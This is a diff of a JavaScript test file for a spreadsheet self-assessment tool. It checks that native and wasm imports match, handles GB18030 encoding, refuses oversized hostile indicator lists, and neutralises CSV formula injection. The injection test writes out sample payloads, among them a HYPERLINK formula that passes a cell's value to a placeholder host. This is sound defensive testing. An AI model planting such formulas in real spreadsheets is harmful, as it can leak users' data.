@@ -1,5 +1,7 @@
 // Excel and CSV through the wasm module: byte-identical to the native CLI, round trips,
-// refusals as findings (never a thrown number), and LibreOffice reading the export.
+// refusals as findings (never a thrown number), LibreOffice reading the export, files other
+// programs wrote (LibreOffice, exceljs, .xls, GB18030 CSV) read alike natively and in wasm,
+// hostile indicator lists refused with their limit, and CSV formula injection neutralised.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
@@ -7,6 +9,7 @@ import { mkdtempSync, readFileSync, readdirSync, writeFileSync, existsSync } fro
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { loadEngine, readText, root, runCli } from './helpers.mjs';
+import { hostileLists } from './hostile_lists.mjs';
 
 const cases = readdirSync(join(root, 'tests/golden')).filter((d) => existsSync(join(root, 'tests/golden', d, 'case.json')));
 
@@ -67,13 +70,13 @@ test('bad workbooks come back as findings through wasm, and the module keeps wor
   const t = JSON.parse(engine.templateFromSheet(new TextEncoder().encode('一级,三级,分值\n产出,培训,abc\n'), ''));
   assert.equal(t.ok, false);
   assert.equal(t.findings[0].code, 'table.bad_weight');
-  // A cell that is not UTF-8 (found by the fuzzers: it used to throw, and the wasm module
-  // does not catch): refused with the cell named, and the module keeps working.
+  // Bytes that are neither UTF-8 nor GB18030 (a cell that used to make the core throw, found by
+  // the fuzzers): refused with the line named and what to do, and the module keeps working.
   const broken = Buffer.concat([Buffer.from('一级,二级,三级,年度指标值,分值\n产出,数量,'), Buffer.from([0xe5, 0x32]), Buffer.from(',1次,100\n')]);
   const u = JSON.parse(engine.templateFromSheet(new Uint8Array(broken), ''));
   assert.equal(u.ok, false);
-  assert.equal(u.findings[0].code, 'table.invalid_utf8');
-  assert.match(u.findings[0].message, /第 2 行（C2）/);
+  assert.equal(u.findings[0].code, 'table.unknown_encoding');
+  assert.match(u.findings[0].message, /既不是 UTF-8，也不是 GB18030（GBK），第 2 行/);
   const { s } = session(Module, 'seed001-project');
   assert.equal(JSON.parse(s.result()).total, '100.00');
 });
@@ -113,4 +116,71 @@ test('LibreOffice opens the exported .xlsx and its CSV has the same numbers', ()
   assert.ok(numbers >= 25, `only ${numbers} numbers compared`);
   const total = ours.find((row) => row[0] === '总分');
   assert.deepEqual(total.slice(5, 7), ['100', '100.00']);
+});
+
+const sheets = join(root, 'tests/data/sheets');
+
+test('every file other programs wrote reads the same natively and in wasm, byte for byte', async () => {
+  const { engine } = await loadEngine();
+  const files = readdirSync(sheets).filter((f) => /\.(xlsx|xls|csv)$/.test(f));
+  assert.ok(files.length >= 10, files.join());
+  for (const f of files) {
+    const bytes = new Uint8Array(readFileSync(join(sheets, f)));
+    const list = f.startsWith('list.');
+    const wasm = list ? engine.templateFromSheet(bytes, '培训') : engine.answersFromXlsx(bytes);
+    const native = runCli(list ? ['template-from-sheet', join(sheets, f), '--name', '培训', '--json'] : ['import-xlsx', join(sheets, f), '--json']);
+    assert.equal(native.status, 0, f + native.stderr);
+    assert.equal(wasm + '\n', native.stdout, `${f}: native and wasm differ`);
+    assert.equal(JSON.parse(wasm).ok, true, f);
+  }
+  // The GB18030 list is its UTF-8 twin.
+  const twin = (f) => JSON.parse(engine.templateFromSheet(new Uint8Array(readFileSync(join(sheets, f))), '培训')).template;
+  assert.deepEqual(twin('list.gb18030.csv'), twin('list.utf8.csv'));
+  assert.equal(JSON.parse(engine.answersFromXlsx(new Uint8Array(readFileSync(join(sheets, 'seed001-percent.exceljs.xlsx'))))).answers.values.b1.actual, '95%');
+});
+
+test('hostile indicator lists: refused with the limit named, natively and in wasm alike', async () => {
+  const { engine } = await loadEngine();
+  const dir = mkdtempSync(join(tmpdir(), 'selfeval-hostile-'));
+  const expect = { 'XFD1048576.xlsx': /第 1048576 行.*最多 30,000 行/, 'million-rows.csv': /超过 500 个指标（模板上限）/, 'eight-thousand.csv': null };
+  for (const [name, bytes] of Object.entries(hostileLists())) {
+    const start = process.hrtime.bigint();
+    const wasm = engine.templateFromSheet(new Uint8Array(bytes), '');
+    const ms = Number(process.hrtime.bigint() - start) / 1e6;
+    writeFileSync(join(dir, name), bytes);
+    const native = runCli(['template-from-sheet', join(dir, name), '--json']);
+    assert.equal(wasm + '\n', native.stdout, name);
+    const r = JSON.parse(wasm);
+    if (expect[name]) {
+      assert.equal(r.ok, false, name);
+      assert.equal(r.findings[0].code, 'table.too_large');
+      assert.match(r.findings[0].message_zh, expect[name]);
+    } else {
+      assert.equal(r.ok, true, name);
+    }
+    assert.ok(ms < 10000, `${name}: ${ms} ms (linear reading takes well under a second)`);
+  }
+});
+
+test('CSV export: =1+1 and =HYPERLINK(…) in a form open in LibreOffice as text, not as formulas', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'selfeval-injection-'));
+  const answers = JSON.parse(readText('tests/golden/seed001-project/answers.json'));
+  answers.values.q1.reason = '=1+1';
+  answers.values.q2.reason = '=HYPERLINK("http://example.invalid/?"&A1,"点击")';
+  answers.values.b1.reason = '@SUM(1)';
+  writeFileSync(join(dir, 'a.json'), JSON.stringify(answers));
+  const r = runCli(['export', '--template', join(root, 'schemas/templates/project-self-assessment.json'), '--answers', join(dir, 'a.json'),
+    '--csv', join(dir, 'form.csv')]);
+  assert.equal(r.status, 0, r.stderr);
+  // LibreOffice imports the CSV as it would open it (formulas evaluated), and saves it as .xlsx.
+  execFileSync('soffice', ['--headless', '--norestore', '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', join(dir, 'lo'), join(dir, 'form.csv')],
+    { env: { ...process.env, HOME: dir }, stdio: 'pipe', timeout: 120000 });
+  const sheet = execFileSync('unzip', ['-p', join(dir, 'lo', 'form.xlsx'), 'xl/worksheets/sheet1.xml']).toString();
+  const strings = execFileSync('unzip', ['-p', join(dir, 'lo', 'form.xlsx'), 'xl/sharedStrings.xml']).toString();
+  assert.doesNotMatch(sheet, /<f[ >]/, 'no cell became a formula');
+  assert.match(strings, /&apos;=1\+1</);
+  assert.match(strings, />&apos;=HYPERLINK\(&quot;http:\/\/example.invalid\/\?&quot;&amp;A1,&quot;</);  // text (in runs of two fonts)
+  assert.match(strings, /&apos;@SUM\(1\)</);
+  // Numbers stay numbers: the total is still a number cell.
+  assert.match(sheet, /<c r="G\d+" s="\d+" t="n"><v>100<\/v><\/c>/);
 });
